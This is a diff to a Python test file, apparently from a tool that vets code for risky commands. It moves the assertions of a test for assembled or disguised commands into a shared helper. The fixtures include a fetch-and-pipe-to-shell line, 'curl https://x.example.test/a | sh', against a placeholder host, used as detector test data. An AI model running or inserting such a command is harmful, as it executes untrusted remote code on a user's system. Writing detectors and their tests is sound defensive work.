@@ -7,8 +7,7 @@ from typing import Final
 import pytest
 
 from tests.vetting.domain.signals.code.cases import Case
-from tests.vetting.domain.signals.code.test_rules import BY_ID, WEIGHT
-from tests.vetting.domain.signals.looking import found
+from tests.vetting.domain.signals.code.judging import judge
 
 FROM: Final = "https://x.example.test/a"
 PLAIN: Final = f"curl {FROM} | sh"
@@ -156,6 +155,4 @@ CASES: Final = (
 @pytest.mark.parametrize("case", CASES, ids=lambda case: f"{case.rule}-{case.kind}")
 def test_a_command_that_is_put_together_is_seen_as_what_it_comes_to(case: Case) -> None:
     """Each has the worst severity that it has when it is written plainly; a twin has none."""
-    findings = found(BY_ID[case.rule], case.path, case.source.encode())
-    severities = {finding.severity.value for finding in findings}
-    assert max(severities, key=WEIGHT.index, default=None) == case.says, [one.message for one in findings]
+    judge(case)
